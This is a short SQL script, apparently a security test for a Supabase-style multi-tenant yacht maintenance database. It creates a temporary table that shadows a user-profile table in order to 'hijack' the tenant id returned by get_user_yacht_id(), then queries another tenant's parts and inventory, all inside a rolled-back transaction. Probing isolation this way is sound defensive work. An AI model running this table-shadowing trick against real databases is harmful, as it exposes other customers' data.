BEGIN;
SET LOCAL ROLE authenticated;
SELECT set_config('request.jwt.claims', '{"sub":"a0000000-0000-4000-8000-00000000000d","role":"authenticated"}', true) \gset
SELECT public.get_user_yacht_id() AS before_hijack;
CREATE TEMP TABLE auth_users_profiles (id uuid, yacht_id uuid, is_active boolean);
INSERT INTO auth_users_profiles VALUES (auth.uid(), 'bbbbbbbb-0000-4000-8000-000000000001', true);
SELECT public.get_user_yacht_id() AS after_hijack;
SELECT yacht_id, name FROM pms_parts;
SELECT yacht_id, quantity FROM pms_inventory_stock;
ROLLBACK;
